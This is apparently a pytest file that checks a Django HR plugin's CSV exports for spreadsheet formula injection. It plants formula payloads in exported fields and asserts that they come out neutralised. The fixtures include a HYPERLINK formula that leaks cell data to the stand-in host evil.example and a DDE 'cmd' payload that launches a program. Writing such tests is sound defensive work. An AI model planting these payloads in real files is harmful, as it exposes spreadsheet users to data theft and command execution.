"""
CSV formula injection (issue 15): every CSV the plugin answers goes through ``core.csv_export``, which neutralises
cells a spreadsheet would run as formulas.

The CSV views are found, not listed: every route of the URLconf whose view answers ``text/csv`` (tests/routes.py);
each must have a case below, which plants formulas in the free texts it exports (a plan item title, a survey comment,
an objective title, a person's name, a competency name), downloads the CSV and checks that the planted text arrived
and that no cell starts a formula. And no module of the plugin writes CSV with ``csv.writer`` itself.
"""

import ast
import csv
import io
import pathlib

import pytest
from django.test import override_settings
from django.urls import reverse
from rest_framework.test import APIClient

from perf_mgmt_plugin.appraisals import cycles
from perf_mgmt_plugin.core import csv_export
from perf_mgmt_plugin.development import services as development
from perf_mgmt_plugin.strategy.models import Objective

from .routes import plugin_routes

FORMULAS = {
    "plan": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "survey": "=cmd|' /C calc'!A0",
    "objective": "+SUM(1,2)",
    "person": "@SUM(1)",
    "competency": "\t=1+1",
}


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n @x", "'\n @x"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
        (-1.5, -1.5),
        (3, 3),
    ],
)
def test_neutralise(value, written):
    assert csv_export.neutralise(value) == written
    if isinstance(written, str) and written != "'=1":
        assert csv_export.unescape(written) == ("" if value is None else value)


def test_no_module_writes_csv_itself():
    """``csv.writer`` / ``csv.DictWriter`` only in core/csv_export.py (readers of imports are fine)."""
    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in [*root.joinpath("perf_mgmt_plugin").rglob("*.py"), *root.joinpath("xblocks").rglob("*.py")]:
        if path.name == "csv_export.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            writes = isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
            if writes and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []


def _csv_routes():
    return {route.short_name: route for route in plugin_routes() if "text/csv" in route.source()}


@pytest.fixture
def planted(org, cycle, fw, strategy):  # noqa: F811
    """Formulas in every free text a CSV export carries, and the data that makes each export non-empty."""
    plan = development.create_plan(org.manager.user, org.alice)
    development.add_item(org.manager.user, plan, kind="course", title=FORMULAS["plan"], course_key=str(org.course_key))
    objective = Objective.objects.filter(owner=org.alice).first()
    Objective.objects.filter(pk=objective.pk).update(title=FORMULAS["objective"])
    org.alice.user.first_name = FORMULAS["person"]
    org.alice.user.save()
    fw.coach.name = FORMULAS["competency"]
    fw.coach.save()
    with override_settings(PERF_MGMT_SURVEY_MIN_GROUP=3):
        cycles.close_cycle(org.hr, cycle)
        for person in (org.alice, org.bob, org.manager):
            client = APIClient()
            client.force_login(person.user)
            body = {"clarity": 4, "usefulness": 3, "fairness": 5, "comment": FORMULAS["survey"]}
            url = reverse("perf_mgmt:api-v1:appraisal-survey-submit", kwargs={"pk": cycle.pk})
            assert client.post(url, body, format="json").status_code == 204
    return type("Planted", (), {"cycle": cycle})


def _closed_360(org):
    """A closed 180 round on Alice rated on the planted competency (lane profiling); the subject's id."""
    from perf_mgmt_plugin.competencies.models import Competency  # pylint: disable=import-outside-toplevel
    from perf_mgmt_plugin.profiling import services as profiling  # pylint: disable=import-outside-toplevel
    from perf_mgmt_plugin.profiling.models import Rater, Subject  # pylint: disable=import-outside-toplevel

    coach = Competency.objects.get(code="COACH")
    profile = profiling.create_profile(org.hr, family="csv", name="CSV", kind="180", items=[(coach.pk, "Coaches")])
    profiling.set_profile_status(org.hr, profile, "active")
    rnd = profiling.start_round(org.hr, profile, name="CSV round", person_ids=[org.alice.pk], notify_people=False)
    subject = Subject.objects.get(round=rnd)
    rater = Rater.objects.get(subject=subject, group="self")
    profiling.save_answers(org.alice.user, rater, answers={profile.items.get().pk: 3}, submit=True)
    profiling.close_round(org.hr, rnd)
    return subject.pk


#: Each CSV route: who downloads it, its URL arguments and query, and which planted texts it must carry.
CASES = {
    "page.course-learners-csv": ("staff", lambda org, p: {"course_id": str(org.course_key)}, {}, ["plan", "person"]),
    "page.appraisal-cycle-survey-csv": ("hr", lambda org, p: {"pk": p.cycle.pk}, {}, ["survey"]),
    "api.appraisal-survey-export": ("hr", lambda org, p: {"pk": p.cycle.pk}, {}, ["survey"]),
    "page.cascade-csv": ("hr", lambda org, p: {}, {}, ["objective", "person"]),
    "api.cascade-export": ("hr", lambda org, p: {}, {}, ["objective", "person"]),
    "page.gap-audit-csv": ("hr", lambda org, p: {}, {}, ["person"]),
    "api.gap-audit-export": ("hr", lambda org, p: {}, {}, ["person"]),
    "api.framework-export": ("hr", lambda org, p: {"slug": "leadership"}, {"as": "csv"}, ["competency"]),
    # the HR requirements editor's download (``?format=csv``): codes and levels only, no free text to carry
    "page.position-requirements": ("hr", lambda org, p: {"pk": org.dev.pk}, {"format": "csv"}, []),
    "page.feedback-report-csv": ("hr", lambda org, p: {"pk": _closed_360(org)}, {}, ["competency"]),  # lane profiling
    # lane health: the health pack and a key position's pool
    "api.health-pack-csv": ("hr", lambda org, p: {}, {"unit": "company"}, []),
    "api.succession-pool-csv": ("hr", lambda org, p: {"pk": _pool_with_alice(org)}, {}, ["person"]),
}


def _pool_with_alice(org):
    from perf_mgmt_plugin.succession.models import KeyPosition, SuccessorCandidate  # noqa: PLC0415

    key = KeyPosition.objects.create(position=org.dev)
    SuccessorCandidate.objects.create(key_position=key, employee=org.alice)
    return key.pk


def test_every_csv_route_has_a_case():
    assert sorted(_csv_routes()) == sorted(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_every_csv_neutralises_planted_formulas(org, planted, name):
    role, kwargs, query, carried = CASES[name]
    route = _csv_routes()[name]
    client = APIClient()
    user = getattr(org, role)
    client.force_login(getattr(user, "user", user))
    if query.get("unit") == "company":  # lane health: the unit's id is known only now
        query = {**query, "unit": org.company.pk}
    with override_settings(PERF_MGMT_SURVEY_MIN_GROUP=3):
        response = client.get(route.path(**kwargs(org, planted)), query)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]
    for key in carried:  # the planted text arrived, as text
        assert "'" + FORMULAS[key] in cells or any(cell.startswith("'" + FORMULAS[key]) for cell in cells), key
    assert [cell for cell in cells if csv_export.is_formula(cell)] == []
